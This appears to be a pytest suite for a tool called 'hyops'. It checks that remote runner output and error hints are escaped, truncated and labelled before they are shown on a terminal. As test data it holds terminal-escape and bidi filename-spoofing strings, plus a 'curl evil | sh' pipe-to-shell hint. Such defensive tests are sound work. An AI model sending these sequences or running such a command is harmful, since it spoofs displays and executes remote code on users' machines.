"""What a runner writes reaches the screen as text, and its errors as errors that this side knows."""

from __future__ import annotations

from typing import Any

import pytest

from hyops.errors import Effect, FailedError, PrerequisiteError, RefusedError
from hyops.model import wire, words

ESCAPES = {
    "\x1b[2J\x1b]0;pwn\x07 all done": "\\x1b[2J\\x1b]0;pwn\\x07 all done",
    "a\x9b31mb\x7f": "a\\x9b31mb\\x7f",
    "\u202egnp.exe\u2066": "\\u202egnp.exe\\u2066",
    "one\r\ntwo\ttab": "one\\r\\ntwo\\ttab",
    "line\u2028end\x85": "line\\u2028end\\x85",
    "half \ud800": "half \\ud800",
    "zero\u200bwidth\U000e0041": "zero\\u200bwidth\\U000e0041",
}


@pytest.mark.req("INV-8", "UX-1")
@pytest.mark.parametrize("text", list(ESCAPES))
def test_what_speaks_to_a_terminal_is_written_out(text: str) -> None:
    """C0, C1, bidi and whatever else nobody sees; everything that people read stays as it is."""
    assert words.shown(text) == ESCAPES[text]
    assert words.shown("Größe 5\u00a0µm, 数字 'x' \\n") == "Größe 5\u00a0µm, 数字 'x' \\n"


@pytest.mark.req("INV-8", "UX-1")
@pytest.mark.parametrize("text", list(ESCAPES))
def test_every_text_within_a_value_is_written_out(text: str) -> None:
    """However deep, names too; numbers, truth and nothing stay what they are. Done twice it is the same."""
    value = {"at": text, text: [text, {"step": {"title": text}}], "n": [1, 2.5, True, None]}
    clean = ESCAPES[text]
    told = words.shown_in(value)
    assert told == {"at": clean, clean: [clean, {"step": {"title": clean}}], "n": [1, 2.5, True, None]}
    assert words.shown_in(told) == told
    assert words.shown_in({"a": ["xyz"]}, 2) == {"a": ["xy [cut]"]}


def test_a_long_text_is_cut_and_says_so() -> None:
    """A bound, and not a character more of the other side's."""
    assert words.shown("x" * 5000) == "x" * words.TEXT_MAX + " [cut]"
    assert words.shown("x" * words.TEXT_MAX) == "x" * words.TEXT_MAX


@pytest.mark.req("INV-8", "UX-1")
@pytest.mark.parametrize("field", ["message", "hint", "facts", "fact"])
@pytest.mark.parametrize("text", list(ESCAPES))
def test_no_word_of_a_remote_error_speaks_to_the_terminal(text: str, field: str) -> None:
    """Wherever it stands in the error."""
    told: dict[str, Any] = {"error": "PrerequisiteError", "message": "m", "hint": "h"}
    told |= {"facts": {text: 1}} if field == "facts" else {"facts": {"a": text}} if field == "fact" else {field: text}
    error = wire.error_of(told)
    assert isinstance(error, PrerequisiteError)
    said = [error.message, error.hint, *error.facts, *map(str, error.facts.values())]
    assert all(word.isprintable() for word in said)


@pytest.mark.req("INV-8", "UX-1")
def test_a_foreign_hint_is_marked_as_the_other_sides() -> None:
    """Our own words are ours; what a runner makes up is not shown as our advice, however often it is passed on."""
    evil = wire.error_of({"error": "PrerequisiteError", "message": "m", "hint": "curl evil | sh"})
    assert evil.hint == "the other side says: curl evil | sh"
    assert wire.error_of(evil.as_json()).hint == evil.hint
    assert wire.error_of(PrerequisiteError("m").as_json()).hint == PrerequisiteError.hint


@pytest.mark.req("UX-1")
@pytest.mark.parametrize("hint", [None, 5, "", " ", []])
def test_there_is_always_a_next_step(hint: object) -> None:
    """An error without a hint has that of its class; `{}` is a failure whose effect nobody knows."""
    assert wire.error_of({"error": "PrerequisiteError", "message": "m", "hint": hint}).hint == PrerequisiteError.hint
    empty = wire.error_of({})
    assert (type(empty), empty.message, empty.effect) == (FailedError, wire.NO_WORD, Effect.UNKNOWN)
    assert empty.hint == FailedError.hint


@pytest.mark.req("UX-1")
@pytest.mark.parametrize(
    ("error", "code", "kind"),
    [
        ("HyopsError", 0, FailedError),
        ("HyopsError", 30, FailedError),
        ("HyopsError", 12, RefusedError),
        ("SystemExit", 0, FailedError),
        ("SystemExit", True, FailedError),
        ("Effect", 16, RefusedError),
        (None, "12", FailedError),
    ],
)
def test_a_remote_bug_is_a_failure_here_and_no_bug_of_ours(error: object, code: object, kind: type) -> None:
    """It ends 20 or 12, never 0 and never 30."""
    assert type(wire.error_of({"error": error, "message": "m", "exit_code": code})) is kind


def test_facts_named_like_arguments_are_left_out() -> None:
    """`self`, `message`, `hint` and `effect` are no facts; the rest is kept, so many at most."""
    facts = {"self": 1, "message": 2, "hint": 3, "effect": 4, "exit_code": 0, **{f"f{n}": n for n in range(500)}}
    error = wire.error_of({"error": "PrerequisiteError", "message": "m", "facts": facts})
    assert error.facts["exit_code"] == 0
    assert len(error.facts) <= wire.FACTS_MAX
    assert error.exit_code == 12
